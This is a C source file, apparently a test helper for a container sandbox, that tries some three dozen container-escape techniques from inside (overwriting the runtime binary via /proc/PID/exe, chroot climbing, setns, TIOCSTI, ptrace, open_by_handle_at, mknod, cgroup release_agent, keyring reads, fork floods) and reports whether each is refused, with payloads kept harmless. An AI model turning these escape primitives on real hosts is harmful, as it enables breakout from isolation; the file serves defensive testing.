/*
 * attack.c: attacks on the host from inside a container, one for each word, for tests/attacks/. Prints
 * "succeeded", or "refused: " and why. What it does on success does no harm: files are opened and not
 * written, but for those that a test has made for it; what it traces and signals is the tests' own.
 *
 * Usage: attack WORD [ARG]...    the table at the end says which; static, so that it runs in any root
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>

enum { PATIENCE_MS = 8000, PATH_BYTES = 512 };

static int number(const char *text)
{
	return (int)strtol(text, NULL, 10);
}

static void pause_ms(long ms)
{
	const struct timespec time = {.tv_nsec = ms * 1000000};

	nanosleep(&time, NULL);
}

/* "Not there to be attacked" is a refusal like any other. */
static int refuse(int error)
{
	errno = error;
	return -1;
}

static int execute(char **words)
{
	execvp(*words, words);
	perror(*words);
	_exit(127);
}

/* The same attack with the capabilities of a user namespace of one's own, where it fails without. */
static int also_in_userns(int (*attack)(char **), char **args, int namespaces)
{
	if (attack(args) == 0)
		return 0;
	if (unshare(CLONE_NEWUSER | namespaces) < 0)
		return -1;
	return attack(args);
}

/* open PATH FLAG: r or w; nothing is read or written */
static int open_path(char **args)
{
	return open(args[0], (*args[1] == 'w' ? O_WRONLY : O_RDONLY) | O_NONBLOCK) < 0 ? -1 : 0;
}

/* --- the program that is PID 1, or has joined */

/* Waits until the program behind a descriptor can be written, which is when nobody executes it. */
static int overwrite_held(int held)
{
	char path[PATH_BYTES];
	int file = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int ms = 0; ms < PATIENCE_MS && file < 0; ms += 20) {
		file = open(path, O_WRONLY | O_APPEND);
		if (file < 0 && errno != ETXTBSY)
			return -1;
		pause_ms(20);
	}
	return write(file, "overwritten", strlen("overwritten")) > 0 ? 0 : -1;
}

/* overwrite PID: its /proc/PID/exe, once it has ended */
static int overwrite(char **args)
{
	char path[PATH_BYTES];
	pid_t pid = strcmp(args[0], "parent") ? number(args[0]) : getppid();
	int held;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	held = open(path, O_PATH);
	if (held < 0)
		return -1;
	if (fork() > 0)
		_exit(0); /* the child tells how it ends */
	return overwrite_held(held);
}

/* overwrite-joined: the program of a process that comes from elsewhere */
static int overwrite_joined(char **args)
{
	struct stat ours, theirs;
	int error = ENOENT;

	(void)args;
	if (stat("/proc/self/exe", &ours) < 0)
		return -1;
	puts("ready");
	fflush(stdout);
	for (int ms = 0; ms < PATIENCE_MS; ms += 5) {
		/* The first ones are here already: whoever comes now has a higher number. */
		for (int pid = getpid() + 1; pid < getpid() + 20; pid++) {
			char path[PATH_BYTES];
			int held;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			held = open(path, O_PATH);
			if (held >= 0 && fstat(held, &theirs) == 0 && theirs.st_ino != ours.st_ino)
				return overwrite_held(held);
			if (held < 0 && errno != ENOENT)
				return -1;
		}
		pause_ms(5);
	}
	return refuse(error);
}

/* join PID NAMESPACE...: outside, as nsenter(1) does it; the child stays for a while */
static int join(char **args)
{
	char path[PATH_BYTES];
	int files[8], count = 0;

	for (char **name = args + 1; *name && count < 8; name++) {
		snprintf(path, sizeof(path), "/proc/%s/ns/%s", args[0], *name);
		files[count] = open(path, O_RDONLY | O_CLOEXEC);
		if (files[count++] < 0)
			return -1;
	}
	for (int i = 0; i < count; i++)
		if (setns(files[i], 0) < 0)
			return -1;
	if (fork() == 0) {
		pause_ms(500);
		_exit(0);
	}
	return wait(NULL) < 0 ? -1 : 0;
}

/* --- what the launcher may have left open */

static int descriptors(char **args)
{
	char path[PATH_BYTES];

	(void)args;
	for (int i = 3; i < 1024; i++)
		if (fcntl(i, F_GETFD) >= 0)
			return 0;
	/* The init's own. */
	errno = ENOENT;
	for (int i = 0; i < 1024; i++) {
		snprintf(path, sizeof(path), "/proc/1/fd/%d", i);
		if (open(path, O_PATH) >= 0)
			return 0;
		if (errno != ENOENT)
			return -1;
	}
	return -1;
}

static int is_root(void)
{
	struct stat root, here;

	return stat("/", &root) == 0 && stat(".", &here) == 0 && root.st_dev == here.st_dev &&
	       root.st_ino == here.st_ino;
}

/* cwd: from the working directory upwards */
static int climb_from_here(char **args)
{
	(void)args;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -1;
	return is_root() ? refuse(ENOENT) : 0;
}

/* climb FOLDER: out of a chroot(2) by another one */
static int climb(char **args)
{
	struct stat before, after;

	if (stat("/", &before) < 0 || chroot(args[0]) < 0 || climb_from_here(args) < 0 ||
	    chroot(".") < 0 || stat("/", &after) < 0)
		return -1;
	return before.st_dev == after.st_dev && before.st_ino == after.st_ino ? refuse(ENOENT) : 0;
}

/* chroot DIR COMMAND...: outside; the weaker way, which keeps the working directory */
static int stay_outside(char **args)
{
	return chroot(args[0]) < 0 ? -1 : execute(args + 1);
}

/* setns: into any namespace that is not ours, through descriptors and /proc */
static int try_namespace(const char *process, const char *name)
{
	char path[PATH_BYTES], own[PATH_BYTES];
	struct stat theirs, ours;
	int file;

	snprintf(path, sizeof(path), "/proc/%.20s/ns/%s", process, name);
	snprintf(own, sizeof(own), "/proc/self/ns/%s", name);
	file = open(path, O_RDONLY | O_CLOEXEC);
	if (file < 0 || fstat(file, &theirs) < 0 || stat(own, &ours) < 0)
		return -1;
	if (theirs.st_ino == ours.st_ino) {
		close(file);
		return refuse(ENOENT);
	}
	return setns(file, 0);
}

static int enter_namespaces(char **args)
{
	static const char *const names[] = {"mnt", "pid", "net", "ipc", "uts", "cgroup", "user"};
	DIR *processes = opendir("/proc");
	int error = ENOENT;

	(void)args;
	for (int i = 3; i < 1024; i++)
		if (setns(i, 0) == 0)
			return 0;
	for (const struct dirent *entry; processes && (entry = readdir(processes));)
		for (size_t i = 0; number(entry->d_name) && i < sizeof(names) / sizeof(*names);
		     i++) {
			if (try_namespace(entry->d_name, names[i]) == 0)
				return 0;
			if (errno != ENOENT)
				error = errno;
		}
	return refuse(error);
}

/* --- other processes */

static int push_input(char **args)
{
	int terminal = open(args[0], O_RDWR | O_NOCTTY);

	return terminal < 0 ? -1 : ioctl(terminal, TIOCSTI, "x");
}

static int trace(char **args)
{
	return ptrace(PTRACE_SEIZE, number(args[0]), NULL, NULL) < 0 ? -1 : 0;
}

static int read_memory(char **args)
{
	char path[PATH_BYTES];

	snprintf(path, sizeof(path), "/proc/%s/mem", args[0]);
	return open(path, O_RDWR) < 0 ? -1 : 0;
}

static int send_signal(char **args)
{
	return kill(number(args[0]), SIGUSR1);
}

/* fork NUMBER: that many at once */
static int fork_many(char **args)
{
	for (int i = number(args[0]); i > 0; i--) {
		pid_t pid = fork();

		if (pid < 0)
			return -1;
		if (pid == 0) {
			pause();
			_exit(0);
		}
	}
	return 0;
}

static socklen_t abstract(struct sockaddr_un *address, const char *name)
{
	*address = (struct sockaddr_un){.sun_family = AF_UNIX};
	snprintf(address->sun_path + 1, sizeof(address->sun_path) - 1, "%s", name);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static int connect_abstract(char **args)
{
	struct sockaddr_un address;
	socklen_t length = abstract(&address, args[0]);

	return connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, length);
}

/* listen NAME: outside, until it is ended */
static int listen_abstract(char **args)
{
	struct sockaddr_un address;
	socklen_t length = abstract(&address, args[0]);
	int file = socket(AF_UNIX, SOCK_STREAM, 0);

	if (bind(file, (struct sockaddr *)&address, length) < 0 || listen(file, 8) < 0)
		return -1;
	puts("ready");
	fflush(stdout);
	pause();
	return 0;
}

/* --- rights */

/* groups FILE: which a group is denied that one can leave */
static int leave_groups(char **args)
{
	if (open(args[0], O_RDONLY) >= 0)
		return 0;
	if (syscall(SYS_setgroups, 0, NULL) < 0)
		return -1;
	return open(args[0], O_RDONLY) < 0 ? -1 : 0;
}

static int capabilities(struct __user_cap_data_struct data[2])
{
	struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};

	return (int)syscall(SYS_capget, &header, data);
}

static int inherit(char **args)
{
	struct __user_cap_data_struct data[2];

	(void)args;
	if (capabilities(data) < 0)
		return -1;
	return data[0].inheritable || data[1].inheritable ? 0 : refuse(EPERM);
}

static int new_userns(char **args)
{
	struct __user_cap_data_struct data[2];

	(void)args;
	if (unshare(CLONE_NEWUSER) < 0 || capabilities(data) < 0)
		return -1;
	return data[0].effective & 1U << CAP_SYS_ADMIN ? 0 : refuse(EPERM);
}

/* handle FILE: outside; prints what open-handle needs */
static int print_handle(char **args)
{
	union {
		struct file_handle handle;
		unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} of = {.handle.handle_bytes = MAX_HANDLE_SZ};
	int mount;

	if (name_to_handle_at(AT_FDCWD, args[0], &of.handle, &mount, 0) < 0)
		return -1;
	for (size_t i = 0; i < sizeof(of.handle) + of.handle.handle_bytes; i++)
		printf("%02x", of.bytes[i]);
	puts("");
	_exit(fflush(stdout));
}

/* open-handle HEX: a file of the root's filesystem that no path leads to */
static int open_handle(char **args)
{
	union {
		struct file_handle handle;
		unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} of = {0};
	const char *text = args[0];

	for (size_t i = 0; text[0] && text[1] && i < sizeof(of.bytes); i++, text += 2) {
		const char pair[3] = {text[0], text[1]};

		of.bytes[i] = (unsigned char)strtoul(pair, NULL, 16);
	}
	return open_by_handle_at(open("/", O_RDONLY), &of.handle, O_RDONLY) < 0 ? -1 : 0;
}

/* mknod MAJOR MINOR PATH: of a disk; opened for reading, and nothing is read */
static int make_node(char **args)
{
	dev_t device = makedev((unsigned int)number(args[0]), (unsigned int)number(args[1]));

	if (mknod(args[2], S_IFBLK | 0600, device) < 0)
		return -1;
	if (open(args[2], O_RDONLY) < 0) {
		int error = errno;

		unlink(args[2]);
		return refuse(error);
	}
	return unlink(args[2]);
}

/* --- mounts */

static int remount(char **args)
{
	return mount(NULL, args[0], NULL, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV | MS_NOEXEC,
		     NULL);
}
static int remount_anyhow(char **args)
{
	return also_in_userns(remount, args, CLONE_NEWNS);
}

static int take_off(char **args)
{
	return umount2(args[0], MNT_DETACH);
}
static int take_off_anyhow(char **args)
{
	return also_in_userns(take_off, args, CLONE_NEWNS);
}

/* A child, since a new PID namespace begins with one. */
static int mount_fresh(char **args)
{
	int status = 0;
	pid_t pid = fork();

	if (pid == 0)
		_exit(mount(args[0], args[1], args[0], 0, NULL) == 0 ? 0 : errno);
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -1;
	return WEXITSTATUS(status) ? refuse(WEXITSTATUS(status)) : 0;
}
/* fresh TYPE FOLDER: one more of a kind, with nothing hidden in it */
static int mount_fresh_anyhow(char **args)
{
	return also_in_userns(mount_fresh, args, CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET);
}

/* Writes what is there already. */
static int set_release_agent(char **args)
{
	char path[PATH_BYTES], text[PATH_BYTES] = "";
	int file;

	if (mount("cgroup", args[1], "cgroup", 0, args[0]) < 0)
		return -1;
	snprintf(path, sizeof(path), "%s/release_agent", args[1]);
	file = open(path, O_RDWR);
	if (file < 0)
		return -1;
	if (read(file, text, sizeof(text) - 1) <= 0)
		strcpy(text, "\n");
	return write(file, text, strlen(text)) < 0 ? -1 : 0;
}
/* release-agent OPTION FOLDER: of the cgroup v1 hierarchy that OPTION names */
static int set_release_agent_anyhow(char **args)
{
	return also_in_userns(set_release_agent, args, CLONE_NEWNS | CLONE_NEWCGROUP);
}

/* --- keys */

static long keyctl(int operation, unsigned long a, unsigned long b, unsigned long c)
{
	return syscall(SYS_keyctl, operation, a, b, c, 0);
}

static int add_key(int keyring)
{
	return (int)syscall(SYS_add_key, "user", "nstest", "secret", strlen("secret"), keyring);
}

/* with-key COMMAND...: outside; a session with a key in it */
static int with_key(char **args)
{
	if (keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0) < 0 ||
	    add_key(KEY_SPEC_SESSION_KEYRING) < 0)
		return -1;
	return execute(args);
}

/* with-user-key COMMAND...: outside; the user's own keyring, which is left as it was */
static int with_user_key(char **args)
{
	int status = 0, key = add_key(KEY_SPEC_USER_KEYRING);
	pid_t pid = key < 0 ? -1 : fork();

	if (pid < 0)
		return -1;
	if (pid == 0)
		execute(args);
	waitpid(pid, &status, 0);
	keyctl(KEYCTL_UNLINK, (unsigned long)key, (unsigned long)KEY_SPEC_USER_KEYRING, 0);
	_exit(WEXITSTATUS(status));
}

static int read_key(char **args)
{
	char text[16];
	int session = KEY_SPEC_SESSION_KEYRING;
	long key;

	(void)args;
	key = syscall(SYS_keyctl, KEYCTL_SEARCH, session, "user", "nstest", 0);
	if (key < 0 ||
	    keyctl(KEYCTL_READ, (unsigned long)key, (unsigned long)text, sizeof(text)) < 0)
		return -1;
	return 0;
}

/* A key is as good as ours in a keyring that we have in ours. */
static int read_user_key(char **args)
{
	if (keyctl(KEYCTL_LINK, (unsigned long)KEY_SPEC_USER_KEYRING,
		   (unsigned long)KEY_SPEC_SESSION_KEYRING, 0) < 0)
		return -1;
	return read_key(args);
}

/* --- calls that open much of the kernel */

static int use_io_uring(char **args)
{
	struct io_uring_params parameters = {0};

	(void)args;
	return syscall(SYS_io_uring_setup, 1, &parameters) < 0 ? -1 : 0;
}

static int use_userfaultfd(char **args)
{
	(void)args;
	return syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */) < 0 ? -1 : 0;
}

static int use_bpf(char **args)
{
	union bpf_attr map = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};

	(void)args;
	return syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map)) < 0 ? -1 : 0;
}

static int use_perf(char **args)
{
	struct perf_event_attr event = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(event),
		.config = PERF_COUNT_SW_TASK_CLOCK,
		.exclude_kernel = 1,
		.exclude_hv = 1,
	};

	(void)args;
	return syscall(SYS_perf_event_open, &event, 0, -1, -1, 0) < 0 ? -1 : 0;
}

static int use_vsock(char **args)
{
	(void)args;
	return socket(AF_VSOCK, SOCK_STREAM, 0) < 0 ? -1 : 0;
}

/*
 * change PATH...: mode, owner, times and attributes of each. All are set to what they are, but for an
 * attribute that is taken off again.
 */
static int change(char **args)
{
	int changed = 0, error = 0;

	for (; *args; args++) {
		static const char name[] = "user.nstest";
		struct stat status;

		if (stat(*args, &status) < 0)
			return -1;
		const struct timespec times[2] = {status.st_atim, status.st_mtim};
		const int results[] = {
			chmod(*args, status.st_mode & 07777),
			chown(*args, status.st_uid, status.st_gid),
			utimensat(AT_FDCWD, *args, times, 0),
			setxattr(*args, name, "", 0, 0),
		};

		error = errno;
		for (size_t i = 0; i < sizeof(results) / sizeof(*results); i++)
			changed += results[i] == 0;
		if (results[3] == 0)
			removexattr(*args, name);
	}
	return changed ? 0 : refuse(error);
}

static const struct {
	const char *word;
	int arguments; /* at least */
	int (*run)(char **args);
} attacks[] = {
	{"open", 2, open_path},
	{"overwrite", 1, overwrite},
	{"overwrite-joined", 0, overwrite_joined},
	{"join", 2, join},
	{"descriptors", 0, descriptors},
	{"cwd", 0, climb_from_here},
	{"climb", 1, climb},
	{"chroot", 2, stay_outside},
	{"setns", 0, enter_namespaces},
	{"tiocsti", 1, push_input},
	{"ptrace", 1, trace},
	{"memory", 1, read_memory},
	{"kill", 1, send_signal},
	{"fork", 1, fork_many},
	{"connect", 1, connect_abstract},
	{"listen", 1, listen_abstract},
	{"groups", 1, leave_groups},
	{"inherit", 0, inherit},
	{"userns", 0, new_userns},
	{"handle", 1, print_handle},
	{"open-handle", 1, open_handle},
	{"mknod", 3, make_node},
	{"remount", 1, remount_anyhow},
	{"unmount", 1, take_off_anyhow},
	{"fresh", 2, mount_fresh_anyhow},
	{"release-agent", 2, set_release_agent_anyhow},
	{"with-key", 1, with_key},
	{"with-user-key", 1, with_user_key},
	{"read-key", 0, read_key},
	{"read-user-key", 0, read_user_key},
	{"io_uring", 0, use_io_uring},
	{"userfaultfd", 0, use_userfaultfd},
	{"bpf", 0, use_bpf},
	{"perf", 0, use_perf},
	{"vsock", 0, use_vsock},
	{"change", 1, change},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(*attacks); i++) {
		if (strcmp(attacks[i].word, argv[1]) != 0 || argc - 2 < attacks[i].arguments)
			continue;
		if (attacks[i].run(argv + 2) == 0)
			puts("succeeded");
		else
			printf("refused: %s\n", strerror(errno));
		return 0;
	}
	fputs("attack: there is no such word, or too few arguments\n", stderr);
	return 2;
}
